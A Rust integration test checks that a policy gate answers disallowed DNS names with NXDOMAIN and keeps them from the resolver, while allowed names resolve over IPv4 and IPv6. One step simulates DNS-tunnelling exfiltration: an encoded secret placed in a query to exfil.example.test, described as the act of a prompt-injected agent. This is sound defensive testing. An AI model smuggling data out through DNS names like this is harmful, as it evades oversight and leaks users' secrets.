//! DNS over UDP through the agent's gate in the workload's namespace: once
//! the gate is open there (on the first query from that namespace), a query
//! for a name the policy does not allow is answered by the gate and never
//! reaches the resolver (no tunnelling through it), while allowed names
//! resolve, are learned before the answer arrives, and the workload sees
//! the resolver's address as the source (IPv4 and IPv6 resolvers).

mod common;

use common::{Exec, s};
use portcullis_tests::{Bench, require_root};

const DIG: &str = "dig +time=2 +tries=1";

fn queries_for(bench: &Bench, name: &str) -> usize {
    std::fs::read_to_string(bench.dns_log_path())
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains("query[") && l.contains(name))
        .count()
}

#[test]
fn refused_names_never_reach_the_resolver_once_the_gate_is_open() {
    if !require_root() {
        return;
    }
    let bench = Bench::start().unwrap();
    let policy = r#"
egress:
  - toFQDNs: [{matchName: api.example.test}]
    ports: [{port: 443}]
dns:
  servers: ["198.51.100.53", "2001:db8:53::53"]
"#;
    // Data smuggled in a name, as a prompt-injected agent would.
    let leak = "c2vjcmv0lwtles0xmjm0.exfil.example.test";
    let r = Exec::new(&bench).policy(policy).steps(&[
        // The first query from the pod's namespace opens its gates.
        ("first", &format!("{DIG} +short api.example.test A")),
        ("other", &format!("{DIG} other.example.test A")),
        ("leak", &format!("{DIG} {leak} TXT")),
        ("other-v6", &format!("{DIG} @2001:db8:53::53 other.example.test AAAA")),
        ("allowed", &format!("{DIG} +short api.example.test A")),
        ("allowed-v6", &format!("{DIG} +short @2001:db8:53::53 api.example.test AAAA")),
        // A Python client on a connected socket checks id and source.
        ("dnsq", "$PY $DNSQ 198.51.100.53 api.example.test --wait 0.3"),
        ("connect", "$PY $SOCK tcp 203.0.113.10 443"),
        ("connect-v6", "$PY $SOCK tcp 2001:db8:100::10 443"),
    ]);
    r.outcome.expect_code(0);
    r.ok("first", "203.0.113.10\n");
    for step in ["other", "leak", "other-v6"] {
        let st = r.get(step);
        assert_eq!(st.code, 0, "{st:?}");
        assert!(st.stdout.contains("status: NXDOMAIN"), "{st:?}");
        // dig warns when an answer comes from another address than asked.
        assert!(!st.stdout.contains("unexpected source"), "{st:?}");
    }
    r.ok("allowed", "203.0.113.10\n");
    r.ok("allowed-v6", "2001:db8:100::10\n");
    let q = r.get("dnsq");
    let v: serde_json::Value = serde_json::from_str(q.stdout.trim()).unwrap();
    assert_eq!(v["answer"]["id_ok"], true, "{v}");
    assert_eq!(v["answer"]["ips"][0], "203.0.113.10", "{v}");
    assert_eq!(r.sock("connect")["ok"], true);
    assert_eq!(r.sock("connect-v6")["ok"], true);

    assert_eq!(queries_for(&bench, "other.example.test"), 0, "a refused query reached the resolver");
    assert_eq!(queries_for(&bench, "exfil.example.test"), 0, "a refused query reached the resolver");
    assert!(queries_for(&bench, "api.example.test") >= 4, "allowed queries do reach it");
    let log = r.log();
    for (dst, host) in [("198.51.100.53", "other.example.test"), ("198.51.100.53", leak), ("2001:db8:53::53", "other.example.test")] {
        log.expect(dst, 53, &[("reason", s("denied-dns-name")), ("host", s(host)), ("comm", s("dig"))]);
    }
}
